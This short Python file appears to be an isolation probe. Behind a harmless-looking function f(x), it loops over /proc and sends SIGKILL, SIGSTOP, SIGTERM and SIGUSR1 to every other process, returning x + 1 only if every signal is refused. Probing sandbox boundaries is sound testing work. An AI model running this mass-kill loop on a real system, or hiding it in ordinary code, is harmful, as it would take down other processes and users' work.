# Every signal to every process it can see: all refused, or sent to nobody but itself.
import os
import signal


def f(x):
    reached = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (os.getpid(),):
            for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGUSR1):
                try:
                    os.kill(int(name), number)
                    reached.append((name, number))
                except (PermissionError, ProcessLookupError):
                    pass
    return x + 1 if not reached else reached
